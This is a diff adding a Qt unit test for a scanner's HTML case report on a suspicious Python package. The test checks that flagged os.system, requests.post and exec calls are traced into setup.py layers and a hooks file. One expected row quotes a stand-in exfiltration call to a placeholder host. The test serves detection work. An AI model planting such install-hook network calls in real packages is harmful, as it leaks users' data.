@@ -59,6 +59,36 @@ class TestExportReport : public QObject {
         QCOMPARE(findRankingIndex(scan, elsewhere), std::nullopt);
     }
 
+    // Calls outside the script are placed in their file, or in their decoded layer of it, with a line of that text.
+    void callsOutsideTheScript() {
+        const mph::ScanResult scan = fixture::makeScanWithReach();
+        const CaseContext context = caseContext(scan, 0, QByteArray::fromStdString(fixture::kSetupPy));
+        QCOMPARE(context.calls.size(), 7);
+        QCOMPARE(context.calls[3], (CallSite{"os.system", 6})); // the script's own calls are unchanged
+        QCOMPARE(context.calls[5], (CallSite{"requests.post", 3, "Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", 0}));
+        QCOMPARE(context.calls[6], (CallSite{"os.system", 2, "Evil_Pkg.Name-1.0/setup.py", 1}));
+        QCOMPARE(callPlace(context.calls[6]), QString("Evil_Pkg.Name-1.0/setup.py (layer 1):2"));
+        QCOMPARE(context.sourceTexts.value("Evil_Pkg.Name-1.0/evil_pkg/_hooks.py"),
+                 QByteArray::fromStdString(fixture::kHooksPy));
+        QCOMPARE(context.sourceTexts.value("Evil_Pkg.Name-1.0/setup.py (layer 1)"),
+                 QByteArray::fromStdString(fixture::kLayerPy));
+
+        CaseFile c = seedCase(scan, 0);
+        c.evidence = {{"", 6, 7, "payload"}, {"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", 3, 3, "posts the data"}};
+        const QString html = caseReportHtml(c, context);
+        QVERIFY2(html.contains("<code>requests.post</code> (<code>Evil_Pkg.Name-1.0/evil_pkg/_hooks.py:3</code>)"),
+                 qPrintable(html));
+        QVERIFY2(html.contains("<code>os.system</code> (line 6; <code>Evil_Pkg.Name-1.0/setup.py (layer 1):2</code>)"),
+                 qPrintable(html));
+        QVERIFY2(html.contains("<code>exec</code> (line 8)"), qPrintable(html));
+        // The evidence in the hooks file shows its line, highlighted; the script's evidence stays in the script.
+        QVERIFY2(html.contains("<code>Evil_Pkg.Name-1.0/evil_pkg/_hooks.py</code>, line 3: posts the data"),
+                 qPrintable(html));
+        QVERIFY2(html.contains("<tr bgcolor=\"#ffe08a\"><td align=\"right\" width=\"5%\" class=\"ln\">3</td><td "
+                               "width=\"95%\" class=\"code\">requests.post('https://x.invalid', data=b'')</td></tr>"),
+                 qPrintable(html));
+    }
+
     void htmlContents() {
         const Fixture f = makeFixture();
         const QString html = caseReportHtml(f.caseFile, f.context);
